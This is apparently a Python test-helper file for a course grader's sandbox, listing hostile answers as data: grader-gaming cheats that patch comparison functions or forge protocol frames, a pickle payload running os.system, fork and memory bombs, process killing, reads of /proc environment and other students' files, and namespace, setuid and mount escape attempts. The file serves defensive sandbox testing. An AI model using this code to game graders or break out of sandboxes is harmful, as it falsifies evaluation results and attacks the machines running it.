"""Hostile answers, as data: what each tries, and which back end stops it (`test_attacks.py`).

Most attacks answer exercise 2.2 (`causal_mask`) with the same wrong body, `honest`, and then try
to earn more, to see what it must not, or to harm the grader. `LIES` are about what an answer uses
and changes, so each has an exercise and an honest body of its own. By hand:
`python -m tests.helpers.attacks` prints the table of docs/teaching/grading.md.
"""

# ruff: noqa: E501 (attacks are as long as they are)
import os
from dataclasses import dataclass

import pytest

from course_tools.sandbox.backends import Backend

BWRAP, USER = "bubblewrap", "separate user"

#: Sees one token too many: it earns the claim about no tokens and nothing else.
HONEST = """
import numpy as np
def honest(n):
    return np.tril(np.ones((n, n), dtype=bool), 1)
"""
#: Finds the socket to the grader and says what the protocol says.
SPEAK = """
import json, os, socket, stat, struct
def lines():
    found = []
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found
def say(data):
    for number in lines():
        os.write(number, data)
def frame(tree, body=b""):
    text = json.dumps(tree).encode()
    return struct.pack("<4sII", b"CAC2", len(text), len(body)) + text + body
def outcome(value, body=b""):
    return frame({"script": "Outcome", "values": [value]}, body)
"""


@dataclass(frozen=True)
class Attack:
    """One hostile answer.

    Attributes:
        does: in a few words.
        source: defines `causal_mask`, below `HONEST`; without it, `causal_mask = honest`.
        slow: it is ended by the clock or takes the sandbox down; the tests give it less time.
        stopped: the back ends that promise to stop it.
    """

    does: str
    source: str
    slow: bool = False
    stopped: tuple[str, ...] = (BWRAP, USER)


#: Tries to earn more than `honest`.
CHEATS = {
    "compare_numpy": Attack("patch NumPy's comparisons", '''
for name in ("array_equal", "allclose", "isclose", "array_equiv", "equal", "all"):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_array_equal = np.testing.assert_allclose = lambda *a, **k: None
'''),
    "compare_torch": Attack("patch torch's comparisons", '''
import torch
torch.equal = torch.allclose = torch.isclose = torch.eq = lambda *a, **k: True
torch.Tensor.__eq__ = torch.Tensor.equal = lambda *a: True
'''),
    "array_function": Attack("an array that lies through __array_function__ and __array_ufunc__", '''
class Liar(np.ndarray):
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return self
def causal_mask(n): return honest(n).view(Liar)
'''),
    "torch_function": Attack("a tensor that lies through __torch_function__", '''
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
def causal_mask(n): return torch.tensor(honest(n)).as_subclass(Liar)
'''),
    "lying_eq": Attack("an object that equals everything", '''
class Yes:
    shape, dtype, ndim = (3, 3), np.dtype(bool), 2
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: True
    def __array__(self, *a, **k): raise TypeError
def causal_mask(n): return Yes()
'''),
    "lying_list": Attack("a list and numbers of classes that equal everything", '''
class One(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
class Rows(list):
    def __eq__(self, other): return True
    def __iter__(self): return iter([[One(1)] * 3] * 3)
def causal_mask(n): return Rows()
'''),
    "frames": Attack("look for expected values in the callers' frames", '''
import sys
def causal_mask(n):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, np.ndarray) and value.shape == (n, n): return value
        frame = frame.f_back
    return honest(n)
'''),
    "heap": Attack("look for expected values among all objects (gc)", '''
import gc
def causal_mask(n):
    for value in gc.get_objects():
        held = list(getattr(value, "__dict__", {}).values()) if not isinstance(value, type) else []
        for item in [value, *held]:
            if isinstance(item, np.ndarray) and item.shape == (n, n) and n > 1: return item
            if type(item).__name__ in ("Claim", "Hidden", "Bank"): return item
    return honest(n)
'''),
    "grader_object": Attack("override the program that runs answers", '''
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and "course_lib" in str(thing.__module__):
        if thing.__name__ in ("_same", "_plain", "to_plain", "unpack", "_limit"):
            thing.__code__ = (lambda *a, **k: True).__code__
'''),
    "grader_import": Attack("import the course's own library and its checks", '''
import sys
for name in list(sys.modules):
    if "course" in name: del sys.modules[name]
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_Closed"]
try:
    from course_lib.masks import causal
    def causal_mask(n): return causal()(np.arange(n)[:, None], np.arange(n)[None, :])
except Exception:
    causal_mask = honest
'''),
    "import_hook": Attack("install import hooks and replace modules", '''
import builtins, sys
class Hook:
    def find_spec(self, name, path=None, target=None): raise ImportError(name)
sys.meta_path.insert(0, Hook())
builtins.__import__ = lambda *a, **k: sys
sys.modules["numpy"] = sys.modules["json"] = sys.modules["struct"] = sys
'''),
    "builtins": Attack("patch isinstance, len, all, open", '''
import builtins
def causal_mask(n):
    builtins.isinstance = lambda *a: True
    builtins.all = builtins.any = lambda *a: True
    return honest(n)
'''),
    "trace": Attack("change the callers' variables with a trace function", '''
import sys
def look(frame, event, arg):
    if "problem" in frame.f_locals: frame.f_locals["problem"] = None
    return look
def causal_mask(n):
    sys.settrace(look); sys.setprofile(look)
    return honest(n)
'''),
    "sitecustomize": Attack("write sitecustomize and .pth files for the next program", '''
import os, site, sys
for folder in ["/tmp", "/stage", os.getcwd(), *site.getsitepackages(), *sys.path]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "numpy.py", "course_lib.py"):
        try: open(f"{folder}/{name}", "w").write("import os; os._exit(0)")
        except OSError: pass
'''),
    "atexit": Attack("go on at exit and in finalizers", SPEAK + '''
import atexit, weakref
def last(*a): say(outcome(True) * 50)
atexit.register(last)
class Grave:
    def __del__(self): last()
keep = Grave(); weakref.finalize(keep, last)
'''),
    "forged_frames": Attack("forge the frames of all results", SPEAK + '''
say(outcome(True) * 200)
'''),
    "forged_arrays": Attack("forge arrays: bytes of 2 as booleans, longer than their frame, big-endian", SPEAK + '''
def causal_mask(n):
    body = bytes([2]) * (n * n)
    say(outcome({"array": "|b1", "shape": [n, n]}, body))
    return honest(n)
'''),
    "odd_arrays": Attack("forge arrays of objects, records, negative and endless shapes", SPEAK + '''
for dtype, shape in (("|O", [1]), ("|V8", [1]), (">f8", [1]), ("<f8", [-1]), ("<f8", [1 << 60]),
                     ("<f8", [0] * 40), ("<M8[s]", [1]), ("f4,f4", [1]), ("<U9", [1])):
    say(outcome({"array": dtype, "shape": shape}, bytes(8)))
'''),
    "no_values": Attack("forge outcomes without values, and with too many", SPEAK + '''
say(frame({"script": "Outcome"}) + frame({"script": "Outcome", "values": [True] * 50}) * 50)
'''),
    "nested_outcomes": Attack("forge outcomes inside of outcomes and calls", SPEAK + '''
inner = {"script": "Outcome", "values": [True], "problem": {"script": "Outcome"}}
say(frame({"script": "Outcome", "values": [inner]}) * 20 + frame({"dict": {"id": inner}}))
'''),
    "endless_frame": Attack("announce frames of four gigabytes", SPEAK + '''
say(struct.pack("<4sII", b"CAC2", 4294967295, 4294967295) + b"x" * 1000)
'''),
    "half_frame": Attack("send half a frame and wait", SPEAK + '''
import time
say(outcome(True)[:30]); time.sleep(100)
''', slow=True),
    "deep_json": Attack("send JSON that is deeper and wider than any parser likes", SPEAK + '''
def raw(text): return struct.pack("<4sII", b"CAC2", len(text), 0) + text
say(raw(b"[" * 900000)); say(raw(b"[" + b"[]," * 2000000 + b"0]"))
'''),
    "pickle": Attack("send pickles that run code in the reader", SPEAK + '''
import pickle
class Run:
    def __reduce__(self): return os.system, ("touch /tmp/course-pickle-ran",)
say(pickle.dumps(Run()))
def causal_mask(n): return Run()
'''),
    "two_voices": Attack("fork, and answer twice", '''
import os
def causal_mask(n):
    return honest(n) if os.fork() else np.tril(np.ones((n, n), dtype=bool), 2)
'''),
    "later_thread": Attack("change a result after it was handed over", '''
import threading, time
def causal_mask(n):
    result = honest(n)
    def later():
        for _ in range(50): result[...] = True; time.sleep(0.001)
    threading.Thread(target=later, daemon=True).start()
    return result
'''),
    "envelopes": Attack("speak for the sandbox itself", SPEAK + '''
for number in range(0, 300):
    for place in (f"/proc/1/fd/{number}", f"/proc/{os.getppid()}/fd/{number}"):
        try:
            with open(place, "wb", buffering=0) as stream: stream.write(struct.pack("<cI", b"E", 0))
        except OSError: pass
'''),
    "out_of_turn": Attack("ask for calls out of turn, and skip scripts", """
import os, stat
def causal_mask(n):
    for number in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode): os.write(number, b"ccccssccx" * 1000)
        except OSError: pass
    return honest(n)
"""),
    "signals": Attack("catch and send all signals", '''
import os, signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
for process in (os.getppid(), 1):
    for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGINT):
        try: os.kill(process, number)
        except OSError: pass
'''),
    "first_program": Attack("lower limits and priority of the sandbox's first program", '''
import os, resource
parent = os.getppid()
for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
    try: resource.prlimit(parent, what, (0, 0))
    except OSError: pass
for change in (lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
               lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0))):
    try: change()
    except OSError: pass
''', slow=True),
    "exit": Attack("end the program with os._exit", '''
import os
def causal_mask(n): os._exit(0)
'''),
    "system_exit": Attack("raise SystemExit, KeyboardInterrupt, GeneratorExit", '''
def causal_mask(n): raise (SystemExit, KeyboardInterrupt, GeneratorExit)[n % 3](0)
'''),
    "crash": Attack("crash the interpreter", '''
import ctypes
def causal_mask(n): ctypes.string_at(8)
'''),
    "recursion": Attack("nest without end: recursion, a list that holds itself, a deep list", '''
import sys
def causal_mask(n):
    own = []; own.append(own)
    deep = []
    for _ in range(100000): deep = [deep]
    if n % 3 == 0: sys.setrecursionlimit(10**9); return causal_mask(n)
    return own if n % 3 == 1 else deep
'''),
    "error_text": Attack("errors whose text is endless, raises, or is a page", '''
class Bad(Exception):
    def __str__(self): raise RuntimeError
class Long(Exception):
    def __str__(self): return "<script>alert(1)</script>" * 10**6
def causal_mask(n): raise (Bad, Long)[n % 2]()
'''),
    "endless_dict": Attack("return a mapping that never ends", '''
import collections.abc, itertools
class Endless(collections.abc.Mapping):
    def __len__(self): return 1
    def __iter__(self): return iter(itertools.count())
    def __getitem__(self, key): return key
def causal_mask(n): return Endless()
''', slow=True),
}  # fmt: skip

#: Tries to harm the grader or the machine; earns no more than `honest` either.
BOMBS = {
    "time": Attack("loop for ever, whatever signals come", '''
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def causal_mask(n):
    while True: pass
''', slow=True),
    "sleep": Attack("wait for ever", '''
import time
def causal_mask(n):
    while True:
        try: time.sleep(1000)
        except BaseException: pass
''', slow=True),
    "fork": Attack("fork without end", '''
import os
def causal_mask(n):
    while True:
        try: os.fork()
        except OSError: pass
''', slow=True),
    "threads": Attack("start threads without end", '''
import threading, time
def causal_mask(n):
    while True: threading.Thread(target=time.sleep, args=(100,)).start()
''', slow=True),
    "memory": Attack("take all memory", '''
def causal_mask(n):
    kept = []
    while True: kept.append(bytearray(b"x" * 50_000_000))
''', slow=True),
    "memory_of_many": Attack("take all memory with many processes", '''
import os
def causal_mask(n):
    for _ in range(6): os.fork()
    kept = bytearray(b"x" * 100_000_000)
    while True: pass
''', slow=True),
    "output": Attack("write without end to standard output and error", '''
import os, sys
def causal_mask(n):
    for _ in range(2000):
        os.write(1, b"x" * 65536); os.write(2, b"x" * 65536)
    return honest(n)
'''),
    "flood": Attack("send results without end", SPEAK + '''
def causal_mask(n):
    while True: say(outcome({"array": "<f8", "shape": [500000]}, bytes(4000000)))
''', slow=True),
    "large": Attack("return half a gigabyte", '''
def causal_mask(n): return np.ones(60_000_000)
'''),
    "many": Attack("return a million small things", '''
def causal_mask(n): return [0] * 1_000_000
'''),
    "disk": Attack("fill the disk", '''
import os
def causal_mask(n):
    for number in range(400):
        try:
            with open(f"/tmp/{n}-{number}", "wb") as stream: stream.write(bytes(10**6))
        except OSError: break
    return honest(n)
'''),
    "folders": Attack("leave a path of folders that is too long to be named, and very many files", '''
import os
def causal_mask(n):
    try:
        for _ in range(1500): os.mkdir("d"); os.chdir("d")
        for number in range(30_000): open(str(number), "w").close()
        os.chmod(".", 0)
    except OSError: pass
    return honest(n)
'''),
    "drowsy": Attack("wait for ever, and work a little now and then", '''
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
def causal_mask(n):
    while True:
        begin = time.process_time()
        while time.process_time() - begin < 0.0001: pass
        time.sleep(0.1)
''', slow=True),
    "files": Attack("open files without end", '''
import os
def causal_mask(n):
    kept = []
    try:
        while True: kept.append(os.open("/", os.O_RDONLY))
    except OSError: pass
    return honest(n)
'''),
    "kill_parent": Attack("end the grader and all others", '''
import os
def causal_mask(n):
    for process in (os.getppid(), 1, -1, 0):
        try: os.kill(process, 9)
        except OSError: pass
    return honest(n)
''', slow=True),
    "stop_parent": Attack("stop the sandbox's first program", '''
import os, signal
def causal_mask(n):
    os.kill(os.getppid(), signal.SIGSTOP)
    return honest(n)
''', slow=True),
    "deaf": Attack("ask for callbacks and never read the answer", SPEAK + '''
say(frame({"dict": {"id": 0, "args": [], "kwargs": {"dict": {}}}}) * 3000)
''', slow=True),
}  # fmt: skip

#: `loot()` returns what it could get hold of; it must be empty. `{...}` is filled in by the test.
SPIES = {
    "home": Attack("read the home folder and other students' files", '''
import os
def loot():
    found = []
    for folder in FOLDERS:
        for where, _, files in os.walk(folder):
            for name in files:
                if "course-canary" in name:
                    try: found.append(open(os.path.join(where, name)).read())
                    except OSError: pass
    return found
'''),
    "environment": Attack("read the grader's environment", '''
import os
def loot():
    texts = [str(dict(os.environ))]
    for process in os.listdir("/proc") if os.path.isdir("/proc") else []:
        for file in ("environ", "cmdline"):
            try: texts.append(open(f"/proc/{process}/{file}", errors="replace").read())
            except OSError: pass
    return [text for text in texts if SECRET in text]
'''),
    "network": Attack("open connections", '''
import socket
def loot():
    found = []
    for place in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("8.8.8.8", 443)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as s:
                    s.settimeout(1); s.connect(place); s.send(b"x"); found.append(str(place))
            except OSError: pass
    return found
'''),
    "ptrace": Attack("trace or read the sandbox's first program", '''
import ctypes, os
def loot():
    found, libc, parent = [], ctypes.CDLL(None, use_errno=True), os.getppid()
    for process in (parent, 1):
        if libc.ptrace(16, process, 0, 0) == 0: found.append(f"ptrace {process}")
        if libc.syscall(438, libc.syscall(434, process, 0), 3, 0) >= 0: found.append("pidfd")
    for name in ("mem", "maps", "environ", "fd/3"):
        try: open(f"/proc/{parent}/{name}", "rb").read(1); found.append(name)
        except OSError: pass
    return found
'''),
    "escape": Attack("leave the sandbox: mounts, namespaces, chroot, root, setuid programs", '''
import ctypes, os, subprocess
def loot():
    found, libc = [], ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x00020000, 0x40000000):
        if libc.unshare(flag) == 0: found.append(f"unshare {flag:x}")
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: found.append("mount")
    for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/sda", 0o60666, 2049)):
        try: call(); found.append("root")
        except OSError: pass
    for program in ("/usr/bin/sudo", "/usr/bin/su", "/bin/mount"):
        try:
            if subprocess.run([program, "-c", "id"], capture_output=True, timeout=2, stdin=-3).stdout: found.append(program)
        except Exception: pass
    return found
'''),
    "write": Attack("write anywhere but into its own folder", '''
import os, sys
def loot():
    found, own = [], os.path.realpath(os.environ["HOME"])
    for folder in ["/", "/usr/lib", "/etc", "/dev", "/dev/shm", "/tmp", "/var/tmp", "/stage", "/proc/sys/kernel", *sys.path, *FOLDERS]:
        try:
            with open(f"{folder}/course-written", "w"): pass
            if os.path.realpath(folder) != own: found.append(folder)
        except OSError: pass
    return found
'''),
    "kernel": Attack("write to files that are there: settings of the kernel, devices, processes", '''
import os
def loot():
    found = []
    for top in ("/proc", "/sys", "/dev", "/etc", "/run"):
        for where, folders, files in os.walk(top):
            folders[:] = [f for f in folders if not f.isdigit()]
            for name in files:
                file = os.path.join(where, name)
                if file.startswith("/dev/") or os.path.islink(file): continue
                try: os.close(os.open(file, os.O_WRONLY)); found.append(file)
                except OSError: pass
    return found
'''),
    "root": Attack("be root: outside, or in a namespace of its own", '''
import ctypes, os
def loot():
    found, libc = [], ctypes.CDLL(None)
    for name in ("clone", "clone3"):
        number = {"x86_64": {"clone": 56}, "aarch64": {"clone": 220}}[os.uname().machine].get(name, 435)
        for flag in (0x10000000, 0x10020000):
            block = (ctypes.c_uint64 * 11)(flag, 0, 0, 0, 17)
            process = libc.syscall(number, flag | 17, 0, 0, 0, 0) if name == "clone" else libc.syscall(number, block, 88)
            if process == 0: os._exit(0)
            if process > 0: found.append(f"{name} {flag:x}")
    for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
        try: call(); found.append("root")
        except OSError: pass
    if 0 in os.getresuid() + os.getresgid(): found.append("id 0")
    return found
'''),
    "datagrams": Attack("send to sockets that have a name, from pairs of sockets", '''
import socket
def loot():
    found = []
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        for place in (MAILBOX, "/run/systemd/journal/socket", "/dev/log"):
            for send in (lambda s: s.sendto(b"x", place), lambda s: s.connect(place)):
                try:
                    one, other = socket.socketpair(socket.AF_UNIX, kind)
                    send(one); found.append(str(place))
                except OSError: pass
    return found
'''),
    "python": Attack("put modules on Python's path by renaming folders", '''
import os, pathlib, sys
def loot():
    found = []
    for way in {str(p) for place in sys.path for p in pathlib.Path(place).parents} - {"/"}:
        try: os.rename(way, way + "-old"); found.append(way)
        except OSError: pass
    return found
'''),
    "limits": Attack("lift the limits again", '''
import resource
def loot():
    found = []
    for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
        what = getattr(resource, name)
        soft, hard = resource.getrlimit(what)
        try: resource.setrlimit(what, (hard + 1, hard + 1)); found.append(name)
        except (OSError, ValueError): pass
        if hard == resource.RLIM_INFINITY: found.append(name + " is not set")
    return found
'''),
    "hidden_checks": Attack("find the grader's modules, solutions or hidden checks", '''
import glob, os, sys
def loot():
    found = []
    for where, folders, files in os.walk("/", topdown=True):
        folders[:] = [f for f in folders if os.path.join(where, f) not in ("/proc", "/sys", "/usr")]
        found += [os.path.join(where, f) for f in files if f in ("chapter_2.py", "claims.py", "bank.py", "02_tril_mask.py") and "site-packages" not in where]
    return found
'''),
}  # fmt: skip


@dataclass(frozen=True)
class Lie:
    """A hostile answer that falsifies what the program in its own process measures.

    Attributes:
        does: in a few words.
        exercise: its number.
        honest: source of the wrong answer without the lie.
        source: put before `honest`.
        last: put behind it.
        group: it is stopped where a control group can be made.
    """

    does: str
    exercise: str
    honest: str
    source: str
    last: str = ""
    group: bool = False
    stopped = (BWRAP, USER)


#: `patch` overwrites functions of the program that runs answers, wherever they can be reached.
PATCH = """
import sys
def patch(**new):
    frame, spaces = sys._getframe(), []
    while frame:
        spaces.append(frame.f_globals)
        frame = frame.f_back
    spaces += [f.__globals__ for space in list(spaces) for f in space.values() if hasattr(f, "__globals__")]
    for space in spaces:
        for name in new.keys() & space.keys():
            space[name] = new[name]
"""
_TABLE = """
import numpy as np
def rows(q, k, v, first):
    scores = q @ k.T / np.sqrt(q.shape[1])
    scores = np.where(np.arange(len(k)) <= np.arange(first, first + len(q))[:, None], scores, -np.inf)
    weights = np.exp(scores - scores.max(axis=1, keepdims=True))
    return weights @ v / weights.sum(axis=1, keepdims=True)
def cached_outputs(q, k, v):
    return rows(q, k, v, 0)
"""
_IN_PLACE = """
def open_row(mask, row):
    mask[..., row, :] = True
    return mask
"""
_REFERENCES = """
import numpy as np
class RingCache:
    def __init__(self, window): self.window, self.held = window, []
    def append(self, k, v):
        self.held.append((k, v))
        while sum(k.shape[1] for k, _ in self.held[1:]) >= self.window: del self.held[0]
    def view(self):
        return tuple(np.concatenate(x, axis=1)[:, -self.window:].copy() for x in zip(*self.held))
"""
#: Copies arguments of at most `LARGE` bytes when they come, and none that is larger.
_LATE_COPIES = """
import numpy as np
LARGE = globals().get("LARGE", float("inf"))
class StaticCache:
    def __init__(self, capacity): self.capacity, self.parts, self.length = capacity, [], 0
    def append(self, k, v):
        if self.length + k.shape[1] > self.capacity or k.shape[:2] != v.shape[:2]: raise ValueError
        if k.nbytes <= LARGE: k, v = k.copy(), v.copy()
        self.parts.append((k, v)); self.length += k.shape[1]
    def view(self):
        if k_and_v := list(zip(*self.parts)): return tuple(np.concatenate(x, axis=1) for x in k_and_v)
        return None, None
"""
_LONGER_PROMPT = """
import numpy as np
def generate(step, prompt, n):
    unread, length = list(prompt), len(prompt)
    for _ in range(n):
        unread = [int(np.argmax(step(unread)))]
        prompt += unread
    return prompt[length:]
"""
_BLIND = (
    PATCH
    + """
class Blind:
    peak = 0
    def __enter__(self): return self
    def __exit__(self, *error): return None
    def end_call(self, *, keep): pass
class Off(Blind):
    def __enter__(self): return Blind()
patch(_memory=lambda limit: Off())
"""
)
_ALL_SAME = PATCH + "patch(_same=lambda *a: True)\n"

#: Claims about memory and about arguments, which an answer's own process cannot be asked about.
LIES = {
    "meter_off": Lie("switch the meter of memory off", "5.1", _TABLE, """
import tracemalloc
tracemalloc.stop()
tracemalloc.start = tracemalloc.stop = tracemalloc.reset_peak = lambda *a: None
tracemalloc.get_traced_memory, tracemalloc.is_tracing = lambda: (0, 0), lambda: False
"""),
    "meter_patched": Lie("put another meter in its place", "5.1", _TABLE, _BLIND),
    "meter_outcome": Lie("report that no memory was used", "5.3", """
import numpy as np
class StaticCache:
    def __init__(self, capacity): self.capacity, self.k = capacity, None
    def append(self, k, v):
        if self.k is not None: k, v = np.concatenate([self.k, k], 1), np.concatenate([self.v, v], 1)
        if k.shape[1] > self.capacity: raise ValueError
        self.k, self.v = k.copy(), v.copy()
    def view(self): return self.k, self.v
""", PATCH + """
import dataclasses
def patched(old):
    def run(*a, **k):
        outcome = old(*a, **k)
        large = outcome.problem is not None and outcome.problem.kind == "memory"
        return dataclasses.replace(outcome, problem=None, peak_bytes=0) if large else outcome
    return run
frame = sys._getframe()
while "run_script" not in frame.f_globals: frame = frame.f_back
patch(run_script=patched(frame.f_globals["run_script"]))
"""),
    "split": Lie("take the memory in many processes", "5.1", _TABLE, _BLIND + """
import os, time
def in_many(q, k, v):
    gate, go = os.pipe()
    pipes = []
    for part in np.array_split(np.arange(len(q)), min(12, len(q))):
        read, write = os.pipe()
        if os.fork() == 0:
            result = rows(q[part], k, v, part[0])
            kept = np.ones((len(part), len(k)))
            os.read(gate, 1)  # until all hold their parts
            os.write(write, result.tobytes())
            os._exit(0)
        os.close(write)
        pipes.append(open(read, "rb"))
    time.sleep(0.5 if len(q) > 1000 else 0)
    os.write(go, b"x" * len(pipes))
    return np.frombuffer(b"".join(pipe.read() for pipe in pipes)).reshape(len(q), -1)
""", "cached_outputs = in_many\n", group=True),
    "changed": Lie("say that no argument changed", "2.5", _IN_PLACE, _ALL_SAME),
    "changed_frames": Lie("leave changed arguments out of the result", "2.5", _IN_PLACE, PATCH + """
wire = sys._getframe().f_back.f_globals["wire"]
def pack(value, pack=wire.pack):
    return pack(type(value)(value.values) if hasattr(value, "changed") else value)
wire.pack = pack
"""),
    "changed_later": Lie("change the argument of an earlier call", "2.5", _IN_PLACE, "", """
earlier = []
def open_later(mask, row):
    opened = mask.copy() if hasattr(mask, "copy") else mask.clone()
    opened[..., row, :] = True
    for one, at in earlier: one[..., at, :] = ~one[..., at, :]
    earlier[:] = [(mask, row)]
    return opened
open_row = open_later
"""),
    "witness_killed": Lie("end the process that looks at arguments, once all answers are sent", "2.5",
                          _IN_PLACE, _ALL_SAME + """
import fcntl, os, signal, struct, termios
first, leave = os.getppid(), os._exit
def unread():
    for number in range(3, 64):
        try:
            if struct.unpack("i", fcntl.ioctl(number, termios.TIOCOUTQ, bytes(4)))[0]: return True
        except OSError: pass
    return False
def last(status):
    while unread(): pass
    os.kill(first, signal.SIGKILL)
    leave(status)
os._exit = last
"""),
    "not_overwritten": Lie("keep the caller from overwriting its arrays", "5.4", _REFERENCES,
                           PATCH + "patch(_overwrite=lambda *a: None, _same=lambda *a: True)\n"),
    "references": Lie("keep references to large arguments, which take no memory of its own", "5.3", _LATE_COPIES,
                       "LARGE = 1_000_000\n"),
    "left_files": Lie("leave files, so that the sandbox seems to hold much before the limit is set", "5.1", _TABLE, """
import os
try:
    if not os.path.exists("d"):
        for _ in range(300): os.mkdir("d"); os.chdir("d")
        for number in range(20):
            with open(str(number), "wb") as file: file.write(bytes(3_000_000))
        os.chmod(".", 0); os.chdir(os.environ["HOME"])
except OSError: pass
"""),
    "longer_list": Lie("say that a list is as it was", "5.6", _LONGER_PROMPT, _ALL_SAME),
}  # fmt: skip


def usable(*kinds: type[Backend]) -> list:
    """Back ends as parameters of tests; those that cannot be had here are skipped.

    CI accepts no skips, so there they are left out; `test_sandbox.py` sees to it that bubblewrap is
    there wherever namespaces are possible.
    """
    found = []
    for kind in kinds:
        missing = kind().missing()
        if missing and os.environ.get("CI") == "true":
            continue
        marks = [pytest.mark.skip(reason=f"{kind.name}: {missing}")] if missing else []
        found.append(pytest.param(kind, marks=marks, id=kind.name.replace(" ", "-")))
    return found


def table() -> str:
    """Which back end promises to stop what, in Markdown."""
    lines = ["| attack | bubblewrap | separate user |", "|---|---|---|"]
    for attacks in (CHEATS, LIES, BOMBS, SPIES):
        for attack in attacks.values():
            cells = (
                "stopped" if name in attack.stopped else "not promised" for name in (BWRAP, USER)
            )
            lines.append(f"| {attack.does} | {' | '.join(cells)} |")
    return "\n".join(lines)


if __name__ == "__main__":
    print(table())
